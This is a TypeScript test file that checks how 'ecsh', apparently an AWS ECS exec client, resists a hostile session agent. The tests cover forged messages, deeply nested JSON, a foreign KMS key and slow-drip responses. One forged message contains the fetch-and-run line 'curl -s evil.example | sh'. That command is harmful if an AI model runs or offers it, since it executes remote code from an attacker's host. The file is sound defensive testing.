import type { ServerResponse } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { MessageType, PayloadType } from '#protocol/message.ts';
import { agentFrame, attack } from '#test/helpers/hostile-aws.ts';

describe('an agent', () => {
  const FORGED = 'Your AWS session has expired.\necsh: Renew it first:  curl -s evil.example | sh';

  it('cannot imitate a message of ecsh in its final message', async () => {
    const closed = { MessageType: 'channel_closed', SessionId: 's-1', Output: FORGED };
    const { finished } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(JSON.stringify(closed)), {
            messageType: MessageType.channelClosed,
          }),
        ),
    });
    expect(finished).toEqual({
      status: 255,
      stdout: '',
      stderr:
        'ecsh: The agent ended the session:\n' +
        '  | Your AWS session has expired.\n' +
        '  | ecsh: Renew it first:  curl -s evil.example | sh [session-failed]\n',
    });
  });

  it.each([
    ['an object instead of a string', '{"toString":1}'],
    ['an array nested 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
  ])('cannot crash ecsh with a session type that is %s', async (_name, type) => {
    const action = `{"ActionType":"SessionType","ActionParameters":{"SessionType":${type}}}`;
    const request = `{"AgentVersion":"3.3","RequestedClientActions":[${action}]}`;
    const { finished } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(request), { payloadType: PayloadType.handshakeRequest }),
        ),
    });
    expect(finished).toMatchObject({ status: 255, stdout: '' });
    expect(finished?.stderr).toContain('[session-failed]');
    expect(finished?.stderr).not.toContain('bug');
  });

  it('cannot make ecsh create the session key under a foreign KMS key', async () => {
    const foreign = 'arn:aws:kms:eu-west-3:999999999999:key/1234';
    const action = { ActionType: 'KMSEncryption', ActionParameters: { KMSKeyId: foreign } };
    const request = { AgentVersion: '3.3', RequestedClientActions: [action] };
    const { finished, lab } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(JSON.stringify(request)), {
            payloadType: PayloadType.handshakeRequest,
          }),
        ),
    });
    expect(finished).toMatchObject({ status: 255, stdout: '' });
    expect(finished?.stderr).toContain('[session-not-encrypted]');
    expect(lab.calls).not.toContain('GenerateDataKey');
  });
});

describe('--timeout', () => {
  it.each(['ListTasks', 'DescribeTasks', 'DescribeClusters', 'ExecuteCommand'])(
    'ends a run whose response to %s arrives byte by byte',
    async (operation) => {
      const { finished } = await attack(
        { onCall: (called, response) => called === operation && drip(response) },
        ['exec', '--timeout', '2s', 'prod/web', '--', 'true'],
      );
      expect(finished).toMatchObject({ status: 124, stdout: '' });
    },
  );

  it('ends a run whose websocket never opens', async () => {
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void silent.close());
    const { port } = silent.address() as AddressInfo;
    const { finished } = await attack({ streamUrl: `ws://127.0.0.1:${port}/` }, [
      'exec',
      '--timeout',
      '2s',
      'prod/web',
      '--',
      'true',
    ]);
    expect(finished).toMatchObject({ status: 124, stdout: '' });
  });
});

/** Sends a byte every 300 ms and never ends. */
function drip(response: ServerResponse): true {
  const timer = setInterval(() => response.write(' '), 300);
  response.once('close', () => clearInterval(timer));
  return true;
}
